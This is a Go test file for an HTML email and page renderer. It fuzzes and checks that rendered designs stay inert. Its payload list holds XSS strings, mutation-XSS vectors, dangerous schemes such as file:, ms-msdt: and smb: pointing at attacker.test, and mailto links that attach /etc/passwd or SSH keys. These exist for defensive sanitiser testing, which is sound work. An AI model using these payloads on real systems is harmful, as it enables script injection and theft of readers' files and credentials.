package render

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net/url"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"testing"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"

	"github.com/designbridge/caddy-designbridge/design"
)

// The rendered document is untrusted HTML: every layout of every design,
// read back as a browser parses it, holds nothing that could run script
// or send the reader's input anywhere, but for what the design's html
// blocks and display conditions hold, which are passed through as
// written. The checks below are said apart from the renderer's own rules
// (design.SafeURL, the sanitiser's lists) so that the two check each
// other.

// inertViolations returns what in the document src, parsed as doc,
// could run script, embed another document, submit a form, change the
// document's base or refresh it; the markup of conditional comments is
// read too, as Outlook reads it (as written: x/net/html decodes
// character references in a comment's data, Outlook does not).
func inertViolations(src []byte, doc *html.Node) []string {
	var bad []string
	var walk func(n *html.Node, inHead bool)
	walk = func(n *html.Node, inHead bool) {
		if n.Type == html.ElementNode {
			bad = append(bad, elementViolations(n, inHead)...)
			inHead = inHead || n.Data == "head"
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c, inHead)
		}
	}
	walk(doc, false)
	z := html.NewTokenizer(bytes.NewReader(src))
	for {
		tt := z.Next()
		if tt == html.ErrorToken {
			break
		}
		if tt != html.CommentToken {
			continue
		}
		body, ok := conditionalBody(string(z.Raw()))
		if !ok {
			continue
		}
		nodes, err := html.ParseFragment(strings.NewReader(body), &html.Node{Type: html.ElementNode, Data: "div", DataAtom: atom.Div})
		if err != nil {
			bad = append(bad, "conditional comment: "+err.Error())
		}
		for _, c := range nodes {
			walk(c, false)
		}
	}
	return bad
}

// conditionalBody is the markup inside an Outlook conditional comment
// (raw, "<!--[if mso]>…<![endif]-->"), false for any other comment.
func conditionalBody(raw string) (string, bool) {
	data := strings.TrimPrefix(raw, "<!--")
	if !strings.HasPrefix(data, "[if ") {
		return "", false
	}
	i := strings.IndexByte(data, '>')
	if i < 0 {
		return "", false
	}
	data = strings.TrimSuffix(data[i+1:], "-->")
	return strings.TrimSuffix(data, "<![endif]"), true
}

// The renderer's own <meta> elements: charset, Content-Type, viewport
// and the mail clients' hints.
var ownMeta = map[string]bool{"charset": true, "content-type": true, "viewport": true,
	"x-apple-disable-message-reformatting": true, "format-detection": true, "description": true}

func elementViolations(n *html.Node, inHead bool) []string {
	var bad []string
	where := "<" + n.Data + ">"
	if n.Namespace != "" {
		bad = append(bad, fmt.Sprintf("%s element %s", n.Namespace, where))
	}
	switch n.Data {
	case "script", "iframe", "frame", "frameset", "object", "embed", "applet", "base",
		"form", "input", "button", "textarea", "select", "option", "isindex", "keygen",
		"template", "noscript", "svg", "math", "portal", "fencedframe", "dialog", "audio", "video", "source", "track":
		bad = append(bad, "element "+where)
	case "meta":
		name := ""
		for _, a := range n.Attr {
			switch a.Key {
			case "charset":
				name = "charset"
			case "name", "http-equiv":
				name = strings.ToLower(a.Val)
			}
		}
		if !inHead || !ownMeta[name] {
			bad = append(bad, fmt.Sprintf("<meta> %q", name))
		}
	case "link":
		rel, href := "", ""
		for _, a := range n.Attr {
			switch a.Key {
			case "rel":
				rel = a.Val
			case "href":
				href = a.Val
			}
		}
		if rel != "stylesheet" || !strings.HasPrefix(urlScheme(href), "http") {
			bad = append(bad, fmt.Sprintf("<link rel=%q href=%q>", rel, href))
		}
	case "style":
		if !inHead && n.Parent != nil && !(n.Parent.Data == "div" && hasClass(n.Parent, popupContainer)) {
			bad = append(bad, "<style> outside the head")
		}
	}
	for _, a := range n.Attr {
		key := strings.ToLower(a.Key)
		switch {
		case a.Namespace != "":
			bad = append(bad, fmt.Sprintf("%s attribute %s:%s on %s", a.Namespace, a.Namespace, a.Key, where))
		case strings.HasPrefix(key, "on"):
			bad = append(bad, fmt.Sprintf("event handler %s on %s", key, where))
		case key == "srcdoc", key == "formaction", key == "action", key == "http-equiv" && n.Data != "meta",
			key == "is", key == "xmlns" && n.Data != "html" && n.Data != "v:roundrect", strings.Contains(key, ":") && key != "xmlns:v" && key != "xmlns:o" && key != "xmlns:w",
			key == "contenteditable", key == "autofocus", key == "popover", key == "popovertarget":
			bad = append(bad, fmt.Sprintf("attribute %s on %s", key, where))
		case urlAttr(key):
			if s := urlScheme(a.Val); !inertScheme(s, a.Val) {
				bad = append(bad, fmt.Sprintf("%s=%q on %s (scheme %q)", key, a.Val, where, s))
			}
		case key == "style":
			if why := scriptableStyle(a.Val); why != "" {
				bad = append(bad, fmt.Sprintf("style %q on %s: %s", a.Val, where, why))
			}
		}
	}
	return bad
}

// urlAttr reports whether the attribute key holds a URL a browser
// follows or fetches.
func urlAttr(key string) bool {
	switch key {
	case "href", "src", "background", "action", "formaction", "poster", "data", "codebase",
		"cite", "longdesc", "lowsrc", "dynsrc", "ping", "manifest", "icon", "srcset", "imagesrcset", "xlink:href":
		return true
	}
	return false
}

// urlScheme is the scheme of u as a browser's URL parser finds it
// (lower-cased), "" for a relative URL: leading and trailing C0 controls
// and spaces are stripped and tabs and line breaks removed anywhere;
// a scheme is an ASCII letter, then letters, digits, + - ., then ':'.
func urlScheme(u string) string {
	u = strings.Trim(u, "\x00\x01\x02\x03\x04\x05\x06\x07\x08\x09\x0a\x0b\x0c\x0d\x0e\x0f\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1b\x1c\x1d\x1e\x1f ")
	u = strings.NewReplacer("\t", "", "\n", "", "\r", "").Replace(u)
	for i := 0; i < len(u); i++ {
		c := u[i]
		switch {
		case 'a' <= c|0x20 && c|0x20 <= 'z':
		case i > 0 && ('0' <= c && c <= '9' || c == '+' || c == '-' || c == '.'):
		case i > 0 && c == ':':
			return strings.ToLower(u[:i])
		default:
			return ""
		}
	}
	return ""
}

// inertScheme reports whether a URL of scheme s (the whole URL u) is one
// a mail client or browser follows itself: no scheme (a relative URL, a
// merge tag; not a network path, which a desktop mail client reads as
// file:), one of the web, mail, phone and chat schemes, or data: of a
// raster image. Any other hands the URL to a program of the reader's
// system (file:, ms-msdt:, search-ms:…) or runs script (javascript:).
func inertScheme(s, u string) bool {
	if s == "" {
		// No network path ("//host", `\\host`) either.
		t := strings.TrimLeft(u, "\x00\x01\x02\x03\x04\x05\x06\x07\x08\x09\x0a\x0b\x0c\x0d\x0e\x0f\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1b\x1c\x1d\x1e\x1f ")
		t = strings.NewReplacer("\t", "", "\n", "", "\r", "").Replace(t)
		return len(t) < 2 || !strings.ContainsRune(`/\`, rune(t[0])) || !strings.ContainsRune(`/\`, rune(t[1]))
	}
	switch s {
	case "http", "https", "tel", "sms", "callto", "cid", "xmpp", "ftp", "ftps", "webcal":
		return true
	case "mailto":
		return !mailtoAttaching(u)
	case "data":
		rest := strings.ToLower(strings.Map(func(r rune) rune {
			if r <= ' ' {
				return -1
			}
			return r
		}, u[strings.IndexByte(u, ':')+1:]))
		return strings.HasPrefix(rest, "image/") && !strings.HasPrefix(rest, "image/svg")
	}
	return false
}

// mailtoAttaching reports whether the mailto: URL u has a field a mail
// client may read as attach, attachment or insert, which attaches (or
// inserts) a file of the reader's: any field after a '?', '&' or ';', its
// name without the spaces or '+' around it, in any case, as written or
// percent-decoded once or twice.
func mailtoAttaching(u string) bool {
	q := u[strings.IndexByte(u, ':')+1:]
	for range 3 {
		if i := strings.IndexAny(q, "?&;"); i >= 0 {
			for _, f := range strings.FieldsFunc(q[i:], func(r rune) bool { return r == '?' || r == '&' || r == ';' }) {
				name, _, _ := strings.Cut(f, "=")
				name = strings.Trim(name, " +\t\n\r")
				if strings.EqualFold(name, "attach") || strings.EqualFold(name, "attachment") || strings.EqualFold(name, "insert") {
					return true
				}
			}
		}
		d, err := url.PathUnescape(q)
		if err != nil {
			return false
		}
		q = d
	}
	return false
}

// scriptableStyle says why an inline style could run script or load a
// behaviour ("" when it cannot), reading it as a list of declarations
// (a ';' inside a string or parentheses ends none).
func scriptableStyle(s string) string {
	for _, decl := range cssDeclarations(strings.ToLower(s)) {
		// Internet Explorer reads a style without its comments:
		// expr/**/ession() is expression().
		decl = withoutComments(decl)
		prop, value, _ := strings.Cut(decl, ":")
		switch prop = strings.TrimSpace(prop); {
		case prop == "behavior", prop == "-moz-binding":
			return prop
		case strings.Contains(value, "expression("):
			return "expression()"
		case strings.Contains(value, "(") && (strings.Contains(value, "javascript:") || strings.Contains(value, "vbscript:")):
			return "a script URL in a CSS function"
		case strings.Contains(decl, `\`):
			return "an escape"
		case (strings.Contains(value, "url(") || strings.Contains(value, "image-set(")) &&
			(strings.Contains(unquoted(value), "var(") || strings.Contains(unquoted(value), "attr(")):
			return "a URL another declaration or an attribute gives"
		}
		for _, u := range cssURLs(value) {
			if s := urlScheme(u); !inertScheme(s, u) {
				return "a URL of scheme " + strconv.Quote(s)
			}
		}
	}
	return ""
}

// withoutComments is the CSS s with its comments (outside strings)
// taken out.
func withoutComments(s string) string {
	var b strings.Builder
	var quote byte
	for i := 0; i < len(s); i++ {
		switch c := s[i]; {
		case quote != 0:
			if c == quote {
				quote = 0
			}
		case c == '"' || c == '\'':
			quote = c
		case strings.HasPrefix(s[i:], "/*"):
			end := strings.Index(s[i+2:], "*/")
			if end < 0 {
				return b.String()
			}
			i += end + 3
			continue
		}
		b.WriteByte(s[i])
	}
	return b.String()
}

// unquoted is the CSS value v without its strings.
func unquoted(v string) string {
	var b strings.Builder
	var quote byte
	for i := 0; i < len(v); i++ {
		switch c := v[i]; {
		case quote != 0:
			if c == quote {
				quote = 0
			}
		case c == '"' || c == '\'':
			quote = c
		default:
			b.WriteByte(c)
		}
	}
	return b.String()
}

// cssURLs lists the URLs a CSS value loads: each url()'s and each string
// of an image-set() (which CSS reads as a URL).
func cssURLs(value string) []string {
	var urls []string
	for rest := value; ; {
		i := strings.Index(rest, "url(")
		if i < 0 {
			break
		}
		rest = strings.TrimLeft(rest[i+len("url("):], " \t\n\r\f")
		end := strings.IndexByte(rest, ')')
		if rest != "" && (rest[0] == '"' || rest[0] == '\'') {
			end = strings.IndexByte(rest[1:], rest[0]) + 1
		}
		if end <= 0 {
			end = len(rest) // CSS closes a string or url() left open at the end
		}
		urls = append(urls, strings.Trim(rest[:end], `"' `))
		rest = rest[end:]
	}
	if strings.Contains(value, "image-set(") {
		// Every part after a quote; those outside quotes are checked too,
		// harmlessly.
		urls = append(urls, strings.FieldsFunc(value, func(r rune) bool { return r == '"' || r == '\'' })[1:]...)
	}
	return urls
}

// cssDeclarations splits an inline style at the ';' that end
// declarations (none in a string, a comment or parentheses).
func cssDeclarations(s string) []string {
	var out []string
	var quote byte
	depth, start := 0, 0
	for i := 0; i < len(s); i++ {
		switch c := s[i]; {
		case quote != 0:
			if c == quote {
				quote = 0
			}
		case strings.HasPrefix(s[i:], "/*"):
			if end := strings.Index(s[i+2:], "*/"); end >= 0 {
				i += end + 3
			} else {
				i = len(s)
			}
		case c == '"' || c == '\'':
			quote = c
		case c == '(':
			depth++
		case c == ')' && depth > 0:
			depth--
		case c == ';' && depth == 0:
			out = append(out, s[start:i])
			start = i + 1
		}
	}
	return append(out, s[start:])
}

// inertPayloads are design values that try to get script into the
// document from wherever the renderer writes them.
var inertPayloads = []string{
	`"><script>alert(1)</script>`,
	`'><img src=x onerror=alert(1)>`,
	`</style><script>alert(1)</script>`,
	`</title><script>alert(1)</script>`,
	`</textarea><script>alert(1)</script>`,
	`--><script>alert(1)</script>`,
	`--!><script>alert(1)</script>`,
	`<![endif]--><script>alert(1)</script>`,
	`<!--<script>alert(1)</script>-->`,
	`javascript:alert(1)`,
	` JaVaScRiPt:alert(1)`,
	"\x01javascript:alert(1)",
	"java\tscript:alert(1)",
	"java\nscript:alert(1)",
	`&#106;avascript:alert(1)`,
	`javascript&colon;alert(1)`,
	`vbscript:msgbox(1)`,
	`data:text/html,<script>alert(1)</script>`,
	`data:image/svg+xml,<svg onload=alert(1)>`,
	`url(javascript:alert(1))`,
	`url('javascript:alert(1)')`,
	`red;background:url(javascript:alert(1))`,
	`expression(alert(1))`,
	`red" onmouseover="alert(1)`,
	`x" style="behavior:url(x.htc)`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<template><script>alert(1)</script></template>`,
	`<select><style></select><img src=x onerror=alert(1)></style>`,
	`<table><tr><td><a href="javascript:alert(1)">x</a></td></tr></table>`,
	`<base href="javascript:/">`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
	`<form action="https://evil.test/"><input name=p><button formaction="javascript:alert(1)">Go</button></form>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<a href="jav&#x09;ascript:alert(1)">x</a>`,
	`<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>`,
	`<a xlink:href="javascript:alert(1)">x</a>`,
	`<img src="x" srcset="javascript:alert(1) 1x">`,
	`<p style="background:url(&quot;javascript:alert(1)&quot;)">x</p>`,
	`<p style="x:expr/**/ession(alert(1))">x</p>`,
	`<p style="-moz-binding:url(x.xml#xss)">x</p>`,
	`<div style="width: e\xpression(alert(1))">x</div>`,
	`{{ name }}"><script>alert(1)</script>`,
	`$x$"><img src=x onerror=alert(1)>`,
	`*|FNAME|*</style><script>alert(1)</script>`,
	`Arial</style><script>alert(1)</script>`,
	`"Arial\"; } </style><script>alert(1)</script>`,
	`en"><script>alert(1)</script>`,
	`rtl" onclick="alert(1)`,
	`<p/onmouseover=alert(1)>x</p>`,
	`<a href="https://x.test/" onclick=alert(1)>x</a>`,
	`<plaintext><script>alert(1)</script>`,
	`<xmp></xmp><script>alert(1)</script>`,
	"<scr\x00ipt>alert(1)</script>",
	`<img src=x onerror=alert(1)//`,
	`<a href="javascript:alert(1)`,
	`<div><![CDATA[</div><script>alert(1)</script>]]></div>`,
	`<?xml version="1.0"?><script>alert(1)</script>`,
	`<!DOCTYPE html><script>alert(1)</script>`,
	// Schemes that hand the URL to a program of the reader's system.
	`file://attacker.test/share/x.png`,
	` FiLe://attacker.test/share`,
	"fi\tle://attacker.test/share",
	"\x01file://attacker.test/share",
	`ms-msdt:/id PCWDiagnostic /skip force`,
	`search-ms:query=x&crumb=location:\\attacker.test\s`,
	`ms-officecmd:{}`,
	`ms-word:ofe|u|https://attacker.test/x.docx`,
	`smb://attacker.test/s`,
	`jar:https://attacker.test/x.jar!/`,
	`view-source:https://attacker.test/`,
	`intent://x#Intent;scheme=http;end`,
	// mailto: links that attach a file of the reader's.
	`mailto:a@attacker.test?subject=x&attach=/etc/passwd`,
	`mailto:a@attacker.test?insert=/etc/passwd`,
	`mailto:a@attacker.test?subject=x&amp;att%61chment=~/.ssh/id_rsa`,
	`<a href="mailto:a@attacker.test?subject=x&amp;attach=/etc/passwd">x</a>`,
	`url(file://attacker.test/s.png)`,
	`url('ms-msdt:/id')`,
	`<a href="&#102;ile://attacker.test/s">x</a>`,
	`<a href="fi&#x09;le://attacker.test/s">x</a>`,
	`<img src="file://attacker.test/s.png">`,
	`<p style="background:url(file://attacker.test/s.png)">x</p>`,
	`<p style="background-image:-webkit-image-set('smb://attacker.test/s.png' 1x)">x</p>`,
	// Network paths, which a desktop mail client reads as file:.
	`//attacker.test/share/x.png`,
	`\\attacker.test\share\x.png`,
	" /\t/attacker.test/share",
	`url(//attacker.test/s.png)`,
	`<a href="&#47;/attacker.test/s">x</a>`,
	`<img src="\/attacker.test/s.png">`,
	`<p style="background:url('//attacker.test/s.png')">x</p>`,
	// A URL where the sanitiser would not see it: after a ';' in a string
	// or a comment, or in a custom property.
	`<p style="background:image-set(&quot;x.png;&quot; 2x, &quot;//attacker.test/s.png&quot; 1x)">x</p>`,
	`<p style="background:image-set(/*;*/'file://attacker.test/s.png' 1x)">x</p>`,
	`<div style="--u:'//attacker.test/s.png'"><p style="background:image-set(var(--u) 1x)">x</p></div>`,
}

// inertDesign is data (a design's JSON) with its html blocks and display
// conditions removed: what they hold is passed through as written.
func inertDesign(t testing.TB, data []byte) any {
	t.Helper()
	var v any
	if err := json.Unmarshal(data, &v); err != nil {
		t.Fatal(err)
	}
	var strip func(v any)
	strip = func(v any) {
		switch v := v.(type) {
		case map[string]any:
			delete(v, "displayCondition")
			if mods, ok := v["modules"].([]any); ok {
				kept := mods[:0]
				for _, m := range mods {
					if !passedThrough(m) {
						kept = append(kept, m)
					}
				}
				v["modules"] = kept
			}
			for _, c := range v {
				strip(c)
			}
		case []any:
			for _, c := range v {
				strip(c)
			}
		}
	}
	strip(v)
	return v
}

// passedThrough reports whether the module m (decoded JSON) is an html
// block, which the renderer writes as it is.
func passedThrough(m any) bool {
	mm, ok := m.(map[string]any)
	if !ok {
		return false
	}
	for _, key := range []string{"type", "contentType"} {
		if s, ok := mm[key].(string); ok && strings.HasSuffix(strings.TrimSpace(s), "html") {
			return true
		}
	}
	return false
}

// setStrings sets every string of the design v but the module kinds
// (type, contentType) to set's result, and returns how many it set.
func setStrings(v any, set func(old string) string) int {
	n := 0
	var walk func(v any) any
	walk = func(v any) any {
		switch x := v.(type) {
		case string:
			n++
			return set(x)
		case map[string]any:
			for k, c := range x {
				if k != "type" && k != "contentType" {
					x[k] = walk(c)
				}
			}
		case []any:
			for j := range x {
				x[j] = walk(x[j])
			}
		}
		return v
	}
	walk(v)
	return n
}

// setString sets the i-th string of the design v (in a stable order,
// the module kinds left out) to s, and returns its old value.
func setString(v any, i int, s string) (old string) {
	n := 0
	var walk func(v any) any
	walk = func(v any) any {
		switch x := v.(type) {
		case string:
			if n++; n-1 == i {
				old = x
				return s
			}
		case map[string]any:
			keys := make([]string, 0, len(x))
			for k := range x {
				if k != "type" && k != "contentType" {
					keys = append(keys, k)
				}
			}
			sort.Strings(keys)
			for _, k := range keys {
				x[k] = walk(x[k])
			}
		case []any:
			for j := range x {
				x[j] = walk(x[j])
			}
		}
		return v
	}
	walk(v)
	return old
}

// inertFixtures are the fixtures' designs (html blocks and display
// conditions removed), with a few members no fixture sets.
func inertFixtures(t testing.TB) [][]byte {
	t.Helper()
	paths, err := filepath.Glob("testdata/fixtures/*.json")
	if err != nil || len(paths) == 0 {
		t.Fatalf("no fixtures: %v", err)
	}
	var out [][]byte
	for _, p := range paths {
		data, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		stripped, err := json.Marshal(inertDesign(t, data))
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, stripped)
	}
	return out
}

func decodeJSON(t testing.TB, data []byte) any {
	t.Helper()
	var v any
	if err := json.Unmarshal(data, &v); err != nil {
		t.Fatal(err)
	}
	return v
}

// checkInertRender renders the design v in every layout and fails t for
// whatever the document holds that could run script.
func checkInertRender(t *testing.T, v any, what string) {
	t.Helper()
	data, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	d, err := design.Decode(data)
	if err != nil {
		return // not a design: refused
	}
	for _, layout := range []Layout{LayoutEmail, LayoutPage, LayoutPopup} {
		out, err := HTMLWithLimits(d, Limits{Layout: layout})
		if err != nil {
			continue // a block the renderer refuses, or too large
		}
		var doc *html.Node
		if layout == LayoutPopup {
			// A popup is inserted into a page's body.
			body := &html.Node{Type: html.ElementNode, Data: "body", DataAtom: atom.Body}
			nodes, err := html.ParseFragment(strings.NewReader(string(out.Body)), body)
			if err != nil {
				t.Fatal(err)
			}
			doc = &html.Node{Type: html.DocumentNode}
			for _, c := range nodes {
				doc.AppendChild(c)
			}
		} else if doc, err = html.Parse(strings.NewReader(string(out.Body))); err != nil {
			t.Fatal(err)
		}
		if bad := inertViolations(out.Body, doc); len(bad) > 0 {
			t.Errorf("%s, %s layout: %s", what, layout, strings.Join(bad, "; "))
		}
	}
}

// TestRenderedInert puts each hostile value in every string of each
// fixture (FuzzRenderedInert puts any value in any one string).
func TestRenderedInert(t *testing.T) {
	for fi, data := range inertFixtures(t) {
		for _, p := range inertPayloads {
			v := decodeJSON(t, data)
			setStrings(v, func(string) string { return p })
			checkInertRender(t, v, fmt.Sprintf("fixture %d, every string %q", fi, p))
		}
	}
}

// FuzzRenderedInert puts value in the n-th string of a fixture: the
// document is inert (inertViolations) in every layout.
func FuzzRenderedInert(f *testing.F) {
	fixtures := inertFixtures(f)
	for fi := range fixtures {
		for i, p := range inertPayloads {
			f.Add(uint8(fi), uint16(i*7), p)
		}
	}
	f.Fuzz(func(t *testing.T, fixture uint8, n uint16, value string) {
		v := decodeJSON(t, fixtures[int(fixture)%len(fixtures)])
		if count := setStrings(v, func(s string) string { return s }); count > 0 {
			setString(v, int(n)%count, value)
		}
		checkInertRender(t, v, fmt.Sprintf("fixture %d, string %d = %q", fixture, n, value))
	})
}

// TestInertViolationsCatch feeds documents that are not inert to the
// checks, which must report each.
func TestInertViolationsCatch(t *testing.T) {
	for _, doc := range []string{
		`<p><script>alert(1)</script></p>`,
		`<img src="x" onerror="alert(1)">`,
		`<a href=" jav&#x09;ascript:alert(1)">x</a>`,
		`<a href="&#1;javascript:alert(1)">x</a>`,
		`<a href="data:text/html,x">x</a>`,
		`<img src="data:image/svg+xml,x">`,
		`<iframe srcdoc="x"></iframe>`,
		`<a formaction="x">x</a>`,
		`<head><base href="https://x.test/"></head>`,
		`<head><meta http-equiv="refresh" content="0;url=https://x.test/"></head>`,
		`<svg><a href="x">x</a></svg>`,
		`<a xlink:href="javascript:alert(1)">x</a>`,
		`<p style="width:expression(alert(1))">x</p>`,
		`<p style="color:red;behavior:url(x.htc)">x</p>`,
		`<p style="background:url(javascript:alert(1))">x</p>`,
		`<link rel="import" href="https://x.test/">`,
		`<!--[if mso]><v:rect href="javascript:alert(1)"></v:rect><![endif]-->`,
		`<!--[if mso]><img src=x onerror=alert(1)><![endif]-->`,
		`<p>x</p><style>p{}</style>`,
		`<a href="file://attacker.test/s">x</a>`,
		`<a href=" Ms-Msdt:/id">x</a>`,
		`<img src="fi&#x09;le://attacker.test/s.png">`,
		`<p style="background:url('file://attacker.test/s.png')">x</p>`,
		`<p style="background:image-set(&quot;smb://attacker.test/s.png&quot; 1x)">x</p>`,
		`<!--[if mso]><v:fill src="file://attacker.test/s.png"></v:fill><![endif]-->`,
		`<p style="background:image-set(/*;*/'//attacker.test/s.png' 1x)">x</p>`,
		`<p style="background:image-set(var(--u) 1x)">x</p>`,
		`<a href="mailto:a@attacker.test?subject=x&amp;Attach=/etc/passwd">x</a>`,
		`<a href="mailto:a@attacker.test?subject=x;att%61chment=/etc/passwd">x</a>`,
	} {
		parsed, err := html.Parse(strings.NewReader(doc))
		if err != nil {
			t.Fatal(err)
		}
		if bad := inertViolations([]byte(doc), parsed); len(bad) == 0 {
			t.Errorf("%s: not reported", doc)
		}
	}
}
